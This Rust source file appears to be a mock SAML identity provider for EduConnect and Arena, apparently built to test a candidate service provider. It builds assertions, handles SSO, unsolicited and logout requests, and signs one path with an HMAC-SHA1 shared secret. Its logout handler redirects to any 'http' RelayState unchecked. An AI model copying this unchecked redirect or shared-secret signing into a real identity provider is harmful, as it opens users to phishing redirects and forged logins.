    let canonical = signed_info(id, [HMAC_SHA1, SHA256], digest.trim());
    let mac = super::keys::hmac(
        openssl::hash::MessageDigest::sha1(),
        secret.as_bytes(),
        canonical.as_bytes(),
    )?;
    let rest = &signed[info_end..];
    let value = inner(rest, "<ds:SignatureValue>", "</ds:SignatureValue>").ok_or_else(missing)?;
    Ok(format!(
        "{}{canonical}{}{}{}",
        &signed[..info_start],
        &rest[..value.start],
        STANDARD.encode(mac),
        &rest[value.end..]
    ))
}

/// Where the first element of `text` opening with `open` lies, through
/// the `close` after it.
fn outer(text: &str, open: &str, close: &str) -> Option<std::ops::Range<usize>> {
    let start = text.find(open)?;
    let end = start + text[start..].find(close)? + close.len();
    Some(start..end)
}

/// Where the text between the first `open` of `text` and the `close`
/// after it lies.
fn inner(text: &str, open: &str, close: &str) -> Option<std::ops::Range<usize>> {
    let start = text.find(open)? + open.len();
    let end = start + text[start..].find(close)?;
    Some(start..end)
}

#[derive(Clone)]
struct AssertionParts {
    id: String,
    issuer: String,
    issue_instant: DateTime<Utc>,
    not_before: DateTime<Utc>,
    not_on_or_after: DateTime<Utc>,
    recipient: String,
    audience: String,
    sp_name_qualifier: String,
    in_response_to: Option<String>,
    identity: Identity,
    /// The transient `NameID` (with its `_n`).
    name_id: String,
    /// The `SessionIndex` (with its `_s`).
    session_index: String,
}

impl AssertionParts {
    fn to_xml(&self, signer: Option<&Signer<'_>>) -> String {
        let signature = signer
            .map(|signer| signer.template(&self.id))
            .unwrap_or_default();
        let attributes: String = self
            .identity
            .saml_attributes()
            .into_iter()
            .map(|(name, friendly, values)| {
                let values: String = values
                    .iter()
                    .map(|value| {
                        format!(
                            r#"<saml:AttributeValue xsi:type="xs:string">{}</saml:AttributeValue>"#,
                            escape_xml(value)
                        )
                    })
                    .collect();
                format!(
                    r#"<saml:Attribute Name="{name}" FriendlyName="{friendly}" NameFormat="urn:oasis:names:tc:SAML:2.0:attrname-format:uri">{values}</saml:Attribute>"#
                )
            })
            .collect();
        format!(
            r#"<saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" xmlns:xs="http://www.w3.org/2001/XMLSchema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" ID="{id}" Version="2.0" IssueInstant="{instant}"><saml:Issuer>{issuer}</saml:Issuer>{signature}<saml:Subject><saml:NameID Format="urn:oasis:names:tc:SAML:2.0:nameid-format:transient" NameQualifier="{issuer}" SPNameQualifier="{sp}">{name_id}</saml:NameID><saml:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer"><saml:SubjectConfirmationData{irt} NotOnOrAfter="{until}" Recipient="{recipient}"/></saml:SubjectConfirmation></saml:Subject><saml:Conditions NotBefore="{from}" NotOnOrAfter="{until}"><saml:AudienceRestriction><saml:Audience>{audience}</saml:Audience></saml:AudienceRestriction></saml:Conditions><saml:AuthnStatement AuthnInstant="{instant}" SessionIndex="{session}"><saml:AuthnContext><saml:AuthnContextClassRef>urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport</saml:AuthnContextClassRef></saml:AuthnContext></saml:AuthnStatement><saml:AttributeStatement>{attributes}</saml:AttributeStatement></saml:Assertion>"#,
            id = self.id,
            instant = instant(self.issue_instant),
            issuer = escape_xml(&self.issuer),
            sp = escape_xml(&self.sp_name_qualifier),
            name_id = escape_xml(&self.name_id),
            irt = in_response_to(self.in_response_to.as_deref()),
            until = instant(self.not_on_or_after),
            from = instant(self.not_before),
            recipient = escape_xml(&self.recipient),
            audience = escape_xml(&self.audience),
            session = escape_xml(&self.session_index),
        )
    }
}

/// The ` InResponseTo="…"` attribute, or nothing for an unsolicited
/// response.
fn in_response_to(request: Option<&str>) -> String {
    request
        .map(|id| format!(r#" InResponseTo="{}""#, escape_xml(id)))
        .unwrap_or_default()
}

fn instant(time: DateTime<Utc>) -> String {
    time.to_rfc3339_opts(SecondsFormat::Secs, true)
}

/// 20 hex digits: SAML ids must start with a letter or `_`, callers add it.
pub(crate) fn hex_id() -> String {
    use base64::engine::general_purpose::URL_SAFE_NO_PAD;
    let token = random_token();
    let bytes = URL_SAFE_NO_PAD.decode(token).unwrap_or_default();
    bytes.iter().take(10).map(|b| format!("{b:02x}")).collect()
}

/// The response for reading: signature and digest values shortened, so the
/// evidence shows what was signed without being a replayable credential.
fn readable(xml: &str) -> String {
    let mut out = xml.to_owned();
    for tag in [
        "ds:SignatureValue",
        "ds:DigestValue",
        "ds:X509Certificate",
        "xenc:CipherValue",
    ] {
        let open = format!("<{tag}>");
        let close = format!("</{tag}>");
        let mut from = 0;
        while let Some(start) = out[from..].find(&open).map(|i| i + from + open.len()) {
            let Some(end) = out[start..].find(&close).map(|i| i + start) else {
                break;
            };
            let kept: String = out[start..end].chars().take(12).collect();
            let replacement = if end - start > 12 {
                format!("{kept}…")
            } else {
                kept
            };
            out.replace_range(start..end, &replacement);
            from = start + replacement.len();
        }
    }
    out.replace("><", ">\n<")
}

/// `GET …/SLO?SAMLRequest=…`: a logout request from the candidate.
pub(crate) fn slo(
    idp: &Idp,
    service: Service,
    headers: &HeaderMap,
    params: &HashMap<String, String>,
) -> Response {
    let cookie = headers.get(header::COOKIE).and_then(|v| v.to_str().ok());
    if let Some(response) = params.get("SAMLResponse") {
        // The service provider's answer to a logout the IdP started.
        let status = logout_status(response);
        if let Some(token) = session_from_cookies(cookie) {
            idp.with_log(&token, |log| log.logout_response = Some(status.clone()));
            idp.event(
                &token,
                format!(
                    "réponse de déconnexion (LogoutResponse) reçue par l'IdP {} : {status}",
                    service.label()
                ),
            );
        }
        return logged_out_page(service.label());
    }
    if let Some(token) = session_from_cookies(cookie) {
        idp.with_log(&token, |log| log.logouts += 1);
        idp.event(
            &token,
            format!(
                "déconnexion demandée à l'IdP {} (LogoutRequest {})",
                service.label(),
                if params.contains_key("SAMLRequest") {
                    "présente"
                } else {
                    "absente"
                }
            ),
        );
    }
    match params.get("RelayState").filter(|r| r.starts_with("http")) {
        Some(target) => Redirect::to(target).into_response(),
        None => logged_out_page(service.label()),
    }
}

pub(crate) async fn educonnect_metadata(State(idp): State<Arc<Idp>>) -> Response {
    metadata(&idp, Service::EduConnect)
}

pub(crate) async fn arena_metadata(State(idp): State<Arc<Idp>>) -> Response {
    metadata(&idp, Service::Arena)
}

pub(crate) async fn educonnect_sso(
    State(idp): State<Arc<Idp>>,
    headers: HeaderMap,
    uri: Uri,
    Query(params): Query<HashMap<String, String>>,
) -> Response {
    sso(
        &idp,
        Service::EduConnect,
        &headers,
        &params,
        true,
        &uri.to_string(),
    )
}

pub(crate) async fn educonnect_unsolicited(
    State(idp): State<Arc<Idp>>,
    headers: HeaderMap,
    uri: Uri,
    Query(params): Query<HashMap<String, String>>,
) -> Response {
    unsolicited(
        &idp,
        Service::EduConnect,
        &headers,
        &params,
        &uri.to_string(),
    )
}

pub(crate) async fn arena_unsolicited(
    State(idp): State<Arc<Idp>>,
    headers: HeaderMap,
    uri: Uri,
    Query(params): Query<HashMap<String, String>>,
) -> Response {
    unsolicited(&idp, Service::Arena, &headers, &params, &uri.to_string())
}

pub(crate) async fn educonnect_sso_post(
    State(idp): State<Arc<Idp>>,
    headers: HeaderMap,
    Form(params): Form<HashMap<String, String>>,
) -> Response {
    sso(&idp, Service::EduConnect, &headers, &params, false, "")
}

pub(crate) async fn arena_sso(
    State(idp): State<Arc<Idp>>,
    headers: HeaderMap,
    uri: Uri,
    Query(params): Query<HashMap<String, String>>,
) -> Response {
    sso(
        &idp,
        Service::Arena,
        &headers,
        &params,
        true,
        &uri.to_string(),
    )
}

pub(crate) async fn arena_sso_post(
    State(idp): State<Arc<Idp>>,
    headers: HeaderMap,
    Form(params): Form<HashMap<String, String>>,
) -> Response {
    sso(&idp, Service::Arena, &headers, &params, false, "")
}

pub(crate) async fn educonnect_slo(
    State(idp): State<Arc<Idp>>,
    headers: HeaderMap,
    Query(params): Query<HashMap<String, String>>,
) -> Response {
    slo(&idp, Service::EduConnect, &headers, &params)
}

pub(crate) async fn arena_slo(
    State(idp): State<Arc<Idp>>,
    headers: HeaderMap,
    Query(params): Query<HashMap<String, String>>,
) -> Response {
    slo(&idp, Service::Arena, &headers, &params)
}
